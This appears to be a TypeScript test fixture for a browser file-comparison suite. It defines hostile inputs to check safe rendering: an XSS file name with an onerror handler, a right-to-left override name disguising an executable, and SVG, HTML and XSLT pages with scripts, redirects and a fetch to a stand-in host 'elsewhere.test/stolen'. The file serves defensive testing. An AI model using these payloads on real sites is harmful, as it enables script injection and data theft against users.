import type { Tree } from './browser.suite.ts'

/** How many files are in the folder in which one conflict is to be found. */
export const MANY = 10_000

/** Many files in one folder, the same everywhere. */
export function createMany(): Tree {
  return Object.fromEntries(Array.from({ length: MANY }, (_, i) => [toName(i), `file ${i}\n`]))
}

/** The name of the file at that place. */
export function toName(i: number): string {
  return `many/file-${String(i).padStart(5, '0')}.txt`
}

/** Markup as a name: it runs a script if it is not treated as text. */
export const HOSTILE = `<img src=x onerror="globalThis.harmed=1;alert(1)">.svg`
export const LONG = `${'very-long-name-'.repeat(15)}.txt`
export const RIGHT_TO_LEFT = 'صور العائلة/عطلة الصيف ٢٠٢٦.txt'
/** Reads as `harmless-fdp.exe` backwards unless the character is made visible. */
export const REVERSED = 'harmless-\u202eexe.pdf'

/** An SVG that shows a square and does all that an SVG can to do harm. */
export function toHostileSvg(color: string): string {
  return `<svg xmlns="http://www.w3.org/2000/svg" width="60" height="60" onload="globalThis.harmed=1;alert(2)">
<script>globalThis.harmed = 1; alert(3); fetch('http://elsewhere.test/stolen')</script>
<image href="http://elsewhere.test/pixel.png" width="1" height="1"/>
<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="http://elsewhere.test/frame"></iframe></foreignObject>
<rect width="60" height="60" fill="${color}"/></svg>`
}

/** A page that runs a script, sends a form and navigates away if it is served as a page of this site. */
const HARM = `<html xmlns="http://www.w3.org/1999/xhtml"><head><meta http-equiv="refresh" content="0;url=http://elsewhere.test/away"/>
<script>globalThis.harmed = 1; alert(4)</script></head><body onload="globalThis.harmed = 1"><img src="http://elsewhere.test/pixel.png"/>
<form action="/keep/notes/text.txt" method="post"><button>Win a prize</button></form></body></html>`

/** The same made by a style sheet of XSLT. */
const STYLED = `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="/files/harm-sheet.xml"?><harm/>`
const SHEET = `<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/">${HARM}</xsl:template></xsl:stylesheet>`

/** Files of every kind that a browser would run. */
export const HARMFUL = ['harm.html', 'harm.xhtml', 'harm.xml']

const SHARED = {
  'harm.html': HARM,
  'harm.xhtml': HARM,
  'harm.xml': STYLED,
  'harm-sheet.xml': SHEET,
  'harm.css': 'main { display: none }',
  'harm.js': 'globalThis.harmed = 1',
  'notes/same.txt': 'the same\n',
  'photos/2026/same.txt': 'also\n',
}

const TEXT = 'one\ntwo\n<script>globalThis.harmed=1</script>\nfour\n'

/** Two trees that differ in all the ways that a page shows. */
export const ODD: Readonly<Record<string, Tree>> = {
  server1: {
    ...SHARED,
    [HOSTILE]: toHostileSvg('crimson'),
    [LONG]: 'long',
    [RIGHT_TO_LEFT]: 'مرحبا\n',
    [REVERSED]: 'one',
    'notes/only-here.txt': 'lacking elsewhere\n',
    'notes/text.txt': TEXT,
    'photos/binary.bin': Uint8Array.of(1, 2, 3, 0, 255, 7),
  },
  server2: {
    ...SHARED,
    [HOSTILE]: toHostileSvg('teal'),
    [LONG]: `long ${'x'.repeat(3000)}`,
    [RIGHT_TO_LEFT]: 'سلام\n',
    [REVERSED]: 'two',
    'notes/text.txt': TEXT.replace('two', 'zwei'),
    'photos/binary.bin': Uint8Array.of(1, 2, 3, 0, 254, 7, 9),
  },
}
